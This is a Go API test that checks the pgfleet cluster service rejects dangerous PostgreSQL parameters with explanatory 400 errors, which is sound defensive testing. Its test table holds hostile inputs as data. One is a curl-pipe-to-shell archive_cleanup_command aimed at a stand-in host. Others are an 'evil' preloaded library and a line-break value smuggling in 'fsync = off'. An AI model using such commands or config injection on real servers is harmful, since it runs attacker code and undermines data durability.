package api_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/pgfleet/pgfleet/internal/api"
)

// TestCreateRefusesReservedParameters: a parameter that would run a
// command, point the server at a file or void pgfleet's guarantees is
// refused with a 400 that names it, says why and what to do.
func TestCreateRefusesReservedParameters(t *testing.T) {
	f := newTestFleet(t)
	srv := f.servers["iad-1"]
	tests := []struct {
		param, value string
		want         []string
	}{
		{"archive_cleanup_command", "sh -c 'curl evil | sh'", []string{
			"parameter archive_cleanup_command is reserved by pgfleet and cannot be set",
			"run a shell command as the postgres OS user",
			"--backup-store", "remove it from the cluster's parameters"}},
		{"synchronous_commit", "off", []string{"parameter synchronous_commit is reserved", "--sync off|on|strict"}},
		{"shared_preload_libraries", "evil", []string{"parameter shared_preload_libraries is reserved", "load a shared library"}},
		{"FSYNC", "off", []string{`parameter "FSYNC" is not a valid PostgreSQL setting name`}},
		{"work_mem", "1MB\nfsync = off", []string{"parameter work_mem: the value contains a line break"}},
	}
	for _, tt := range tests {
		one := 1
		body, _ := json.Marshal(api.CreateRequest{Name: "p", PrimaryRegion: "iad", HA: &one, Params: map[string]string{tt.param: tt.value}})
		req, err := http.NewRequest(http.MethodPost, srv.URL+"/v1/clusters", strings.NewReader(string(body)))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+testToken)
		req.Header.Set("Content-Type", "application/json")
		resp, err := srv.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var ev api.ErrorView
		err = json.NewDecoder(resp.Body).Decode(&ev)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest || err != nil {
			t.Errorf("POST /v1/clusters with %s = %d %q (%v); want 400", tt.param, resp.StatusCode, ev.Error, err)
			continue
		}
		for _, w := range tt.want {
			if !strings.Contains(ev.Error, w) {
				t.Errorf("POST /v1/clusters with %s = %q; want it to say %q", tt.param, ev.Error, w)
			}
		}
	}
}
